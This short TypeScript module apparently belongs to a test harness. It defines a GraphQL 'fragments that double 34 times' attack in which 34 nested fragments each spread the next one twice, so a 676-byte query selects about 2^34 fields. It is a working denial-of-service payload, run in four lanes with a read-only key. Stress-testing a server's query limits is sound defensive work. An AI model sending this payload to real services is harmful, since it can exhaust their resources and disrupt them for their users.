import { type Attack } from '../../attack.js';

/** 676 bytes that select 2^34 fields, with a read-only key. */
export const fragments: Attack = {
  name: 'fragments that double 34 times',
  lanes: 4,
  begin: async (attacker) => {
    const levels = Array.from({ length: 34 }, (_, n) => `fragment f${n} on Run { ...f${n + 1} ...f${n + 1} }`);
    const query = `{ runs { items { ...f0 } } } ${levels.join(' ')} fragment f34 on Run { id }`;
    return () => attacker.graphql(query);
  },
};
